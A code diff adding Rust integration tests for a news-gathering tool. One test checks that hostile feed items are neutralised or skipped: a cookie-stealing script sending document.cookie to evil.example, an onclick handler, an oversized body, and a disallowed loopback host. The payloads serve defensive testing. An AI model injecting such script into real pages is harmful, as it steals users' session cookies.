@@ -322,3 +322,108 @@ fn a_live_check_names_each_way_a_channel_fails_and_the_healthy_are_still_gathere
     let pack = read_json(dir.join("pack/pack.json"));
     assert_eq!(pack["sides"]["japan"], 1, "{pack}");
 }
+
+#[test]
+fn a_hostile_item_is_refused_or_neutralised_and_nothing_else_is_lost() {
+    let web = Web::start();
+    let now = SystemTime::now();
+    web.route(
+        "/script",
+        Reply::ok(
+            "text/html; charset=utf-8",
+            "<html><body><article><p>The ministry said the Senkaku Islands talks would resume.</p><script>fetch('https://evil.example/'+document.cookie)</script><p onclick=\"steal()\">It said Japan protested over the Senkaku Islands again.</p></article></body></html>",
+        ),
+    );
+    web.route("/huge", Reply::ok("text/plain", vec![b'a'; 50 * 1024 * 1024]));
+    web.route("/good", Reply::ok("text/plain; charset=utf-8", TOKYO));
+    // The feed lists a page on another loopback address, which the run has
+    // not allowed: only this server's own host and port are.
+    let private = web.url("/good").replace("127.0.0.1", "127.0.0.2");
+    let feed = rss(&[
+        ("Script", &web.url("/script"), now),
+        ("Huge", &web.url("/huge"), now),
+        ("Private", &private, now),
+        ("Good", &web.url("/good"), now),
+    ]);
+    web.route("/jp.xml", Reply::ok("application/atom+xml", feed));
+    let dir = scratch();
+    channel(&dir, "jp-test", "japan", &web.url("/jp.xml"), "");
+    let host = web.url("").trim_start_matches("http://").trim_end_matches('/').to_string();
+    write(dir.join("trusted.toml"), format!("[fetch]\nallow = [\"{host}\"]\n"));
+    let r = Parallax::new(&dir)
+        .args([
+            "gather",
+            "--persona",
+            "prism",
+            "--topic",
+            "senkaku",
+            "-o",
+            "pack",
+            "--config",
+            "trusted.toml",
+        ])
+        .args(["--channels", "channels", "--json", "--channel", "jp-test"])
+        .succeeds();
+    let pack = read_json(dir.join("pack/pack.json"));
+    let kept: Vec<&str> =
+        pack["items"].as_array().unwrap().iter().map(|i| i["url"].as_str().unwrap()).collect();
+    assert!(
+        kept.contains(&web.url("/good").as_str()) && kept.contains(&web.url("/script").as_str()),
+        "{pack}\n{}",
+        r.stderr
+    );
+    let skipped = pack["skipped"].as_array().unwrap();
+    let reason = |url: &str| {
+        skipped
+            .iter()
+            .find(|s| s["url"] == url)
+            .map(|s| s["reason"].as_str().unwrap().to_string())
+            .unwrap_or_else(|| panic!("{url} not skipped: {pack}"))
+    };
+    assert!(reason(&web.url("/huge")).contains("limit"), "{pack}");
+    assert!(reason(&private).contains("127.0.0.2"), "{pack}");
+    assert!(!reason(&private).contains('\n'), "one line each");
+    let item = pack["items"].as_array().unwrap().iter().find(|i| i["url"] == web.url("/script")).unwrap();
+    let text = read(dir.join("pack").join(item["file"].as_str().unwrap()));
+    assert!(
+        text.contains("Japan protested") && !text.contains("document.cookie") && !text.contains("steal()"),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_topics_file_gathers_a_pack_per_topic_and_a_batch_that_drafts_them() {
+    let web = Web::start();
+    let now = SystemTime::now();
+    web.route("/cn/briefing", Reply::ok("text/plain; charset=utf-8", BRIEFING));
+    web.route("/jp/statement", Reply::ok("text/plain; charset=utf-8", TOKYO));
+    web.route(
+        "/cn.xml",
+        Reply::ok("application/atom+xml", rss(&[("Briefing", &web.url("/cn/briefing"), now)])),
+    );
+    web.route(
+        "/jp.xml",
+        Reply::ok("application/atom+xml", rss(&[("Protest", &web.url("/jp/statement"), now)])),
+    );
+    let dir = scratch();
+    channel(&dir, "cn-test", "china", &web.url("/cn.xml"), "");
+    channel(&dir, "jp-test", "japan", &web.url("/jp.xml"), "");
+    write(
+        dir.join("topics.toml"),
+        "[[topic]]\nid = \"senkaku\"\n\n[[topic]]\nid = \"tariffs\"\ntopic = \"tariffs,customs duties\"\nsince = \"2d\"\n",
+    );
+    let r = Parallax::new(&dir)
+        .args(["gather", "--persona", "prism", "--manifest", "topics.toml", "--since", "7d", "-o", "nightly"])
+        .args(["--channels", "channels", "--allow-private", "--channel", "cn-test", "--channel", "jp-test"])
+        .succeeds();
+    assert!(r.stderr.contains("no item on tariffs"), "{}", r.stderr);
+    assert_eq!(read_json(dir.join("nightly/senkaku/pack.json"))["sides"]["china"], 1);
+    assert!(dir.join("nightly/tariffs/pack.json").exists());
+    let manifest = read(dir.join("nightly/batch.jsonl"));
+    assert_eq!(manifest.lines().count(), 1, "a topic with no item makes no story: {manifest}");
+    // The second command of the night.
+    Parallax::new(&dir).args(["batch", "nightly/batch.jsonl", "--out", "out"]).succeeds();
+    let article = read_json(dir.join("out/senkaku.json"));
+    let china = article["perspectives"].as_array().unwrap().iter().find(|p| p["id"] == "china").unwrap();
+    assert_eq!(china["stated"], true, "{china}");
+}
